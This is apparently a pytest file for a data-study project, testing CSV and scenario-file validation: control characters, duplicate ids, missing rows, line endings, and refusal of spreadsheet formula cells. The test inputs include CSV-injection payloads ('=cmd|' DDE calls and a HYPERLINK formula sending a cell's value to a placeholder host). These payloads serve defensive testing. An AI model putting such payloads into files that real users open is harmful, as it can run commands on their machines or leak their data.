"""Issue 23, classes 2 and 3: text validated whole, required rows, one folder per scenario name, and no cell a
spreadsheet would run. Unit cases on tiny inline tables (fast); the same cases through `study build` are in
tests/test_reliability.py."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest

from divide_study.data import clean
from divide_study.data.arcep import read_arcep_table
from divide_study.data.tables import read_table
from divide_study.data.text import formula_problem
from divide_study.engine.params import ParameterError, scenario_files
from divide_study.errors import DataError

V2 = "https://datapackage.org/profiles/2.0/tableschema.json"


@pytest.fixture
def initiatives(tmp_path: Path):
    """initiatives-like table: an id with a pattern, a colour with a pattern, a free-text name, a number."""
    schema = {
        "$schema": V2,
        "fields": [
            {"name": "initiative", "type": "string", "constraints": {"pattern": "^[a-z0-9][a-z0-9_]*$"}},
            {"name": "colour", "type": "string", "constraints": {"pattern": "^#[0-9a-f]{6}$"}},
            {"name": "short_name", "type": "string"},
            {"name": "change", "type": "number"},
        ],
        "primaryKey": ["initiative"],
    }
    (tmp_path / "initiatives.schema.json").write_text(json.dumps(schema), encoding="utf-8")

    def write(**cells: str) -> Path:
        row = {"initiative": "tarn", "colour": "#cc79a7", "short_name": "Tarn", "change": "-5", **cells}
        frame = pd.DataFrame([{"initiative": "gers_numerique", "colour": "#0072b2", "short_name": "Gers"}, row])
        path = tmp_path / "initiatives.csv"
        frame.fillna("3").to_csv(path, index=False, lineterminator="\n")
        return path

    return write


@pytest.mark.parametrize("validate", [True, False])
@pytest.mark.parametrize(
    ("column", "value", "shown"),
    [
        ("initiative", "gers_numerique\n", r"'gers_numerique\n' contains a control character (U+000A LINE FEED)"),
        ("colour", "#0072b2\n", r"'#0072b2\n' contains a control character (U+000A LINE FEED) at position 8"),
        ("short_name", "Tarn\x00", "contains a control character (U+0000 NULL)"),
        ("short_name", "Ta\u0085rn", "contains a control character (U+0085"),
    ],
)
def test_a_text_cell_is_checked_whole(initiatives, validate, column, value, shown):
    """A pattern's `$` matches before a final newline: `gers_numerique\\n` passed as an id (an evil twin)."""
    with pytest.raises(DataError) as info:
        read_table(initiatives(**{column: value}), validate=validate)
    message = str(info.value)
    assert "initiatives.csv, row 2 (line 3)" in message and f"column '{column}'" in message, message
    assert shown in message, message


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+cmd|x", "-2+3"],
)
def test_a_cell_a_spreadsheet_would_run_is_refused_with_its_place(initiatives, value):
    with pytest.raises(DataError) as info:
        read_table(initiatives(short_name=value))
    message = str(info.value)
    assert "initiatives.csv, row 2 (line 3) [initiative=tarn], column 'short_name'" in message, message
    assert "which a spreadsheet would run as a formula (CSV injection)" in message, message


@pytest.mark.parametrize("value", ["-5", "+3,5", "-0.25", "-", "Tarn - SFR", "a=b", "e-mail"])
def test_numbers_signs_and_ordinary_text_are_not_formulas(initiatives, value):
    frame = read_table(initiatives(short_name=value))
    assert frame["short_name"].tolist() == ["Gers", value]
    assert frame["change"].tolist()[1] == -5  # a negative number in a numeric column is a number


@pytest.mark.parametrize("text", ["=1+1", "@x", "+a", "-a", "\tx", "\rx"])
def test_the_owasp_starts(text):
    assert formula_problem(text) is not None


def test_arcep_style_tables_refuse_formulas_and_control_characters(tmp_path):
    schema = {"fields": [{"name": "code", "type": "string"}, {"name": "speaker", "type": "string"}]}
    (tmp_path / "claims.schema.json").write_text(json.dumps(schema), encoding="utf-8")
    path = tmp_path / "claims.csv"
    path.write_text("code,speaker\n32,le Département\n81,=HYPERLINK(1)\n", encoding="utf-8")
    with pytest.raises(DataError, match=r"claims.csv, column 'speaker': data row 2 \(line 3\).*formula"):
        read_arcep_table(path)
    path.write_text("code,speaker\n32,-\n81,ok\n", encoding="utf-8")  # ARCEP's "-" for none
    assert read_arcep_table(path)["speaker"].tolist() == ["-", "ok"]


def test_every_model_an_initiative_uses_has_its_risk_row():
    initiatives = pd.DataFrame({"initiative": ["gers", "tarn"], "model": ["public_network", "concession"]})
    risks = pd.DataFrame({"model": ["public_network", "mixed_economy_company"]})
    with pytest.raises(DataError) as info:
        clean.check_model_risks(risks, initiatives, Path("data/raw/model_risks.csv"))
    message = str(info.value)
    assert message.startswith("data/raw/model_risks.csv, column 'model': no row for the model 'concession'"), message
    assert "data/raw/initiatives.csv (row 2) gives to 'tarn'" in message
    clean.check_model_risks(pd.DataFrame({"model": ["public_network", "concession"]}), initiatives, Path("x.csv"))


def test_scenario_names_map_one_to_one_to_folders(tmp_path):
    (tmp_path / "p p.yaml").write_text("base_year: 2014\n")
    (tmp_path / "p_p.yaml").write_text("base_year: 2003\n")
    with pytest.raises(
        ParameterError, match=r"scenarios 'p p.yaml' and 'p_p.yaml' would both publish to scenarios/p_p/"
    ):
        scenario_files(tmp_path)
    (tmp_path / "p p.yaml").unlink()
    assert [p.name for p in scenario_files(tmp_path)] == ["p_p.yaml"]


@pytest.mark.parametrize("name", ["=cmd|' C calc'!A0.yaml", "@SUM(A1).yaml", "line\nbreak.yaml"])
def test_a_scenario_name_a_spreadsheet_would_run_is_refused(tmp_path, name):
    (tmp_path / name).write_text("base_year: 2014\n")
    with pytest.raises(ParameterError, match="the scenario's name"):
        scenario_files(tmp_path)


@pytest.mark.parametrize("name", ["default.yaml", "Default.yml", " default .yaml"])
def test_a_scenario_named_as_the_published_study_is_refused(tmp_path, name):
    """The stamp says "Parameters: default" for the published study (and no "Scenario" mark): a scenario of that
    name was stamped as the study itself, its edition in scenarios/default/ indistinguishable from it."""
    (tmp_path / name).write_text("persons_per_household: 2.5\n")
    with pytest.raises(ParameterError, match=r"is the published study's .*rename the file"):
        scenario_files(tmp_path)
    (tmp_path / name).rename(tmp_path / "defaults_2.yaml")
    assert [p.name for p in scenario_files(tmp_path)] == ["defaults_2.yaml"]


def test_a_duplicate_id_names_the_row_it_repeats_counted_as_the_user_counts(initiatives):
    """frictionless says "the row at position 3" counting the header as row 1: one off from our rows."""
    path = initiatives()
    path.write_text(path.read_text(encoding="utf-8") + "gers_numerique,#e69f00,Gers again,1\n", encoding="utf-8")
    with pytest.raises(DataError) as info:
        read_table(path)
    message = str(info.value)
    assert "initiatives.csv, row 3 (line 4) [initiative=gers_numerique]" in message, message
    assert "the same as row 1 (line 2)" in message, message


@pytest.mark.parametrize(("ending", "line"), [("\r", 1), ("\n", None), ("\r\n", None)])
def test_lines_ended_by_a_carriage_return_alone_are_named(initiatives, ending, line):
    """A file saved with CR line endings (old Mac editors) failed with the CSV reader's "new-line character seen
    in unquoted field - do you need to open the file in universal-newline mode?", naming no file; LF and CRLF
    read as before."""
    path = initiatives()
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", ending.encode()))
    if line is None:
        assert len(read_table(path)) == 2
        return
    with pytest.raises(DataError) as refused:
        read_table(path)
    message = str(refused.value)
    assert "initiatives.csv" in message and f"line {line} ends with a carriage return alone" in message, message
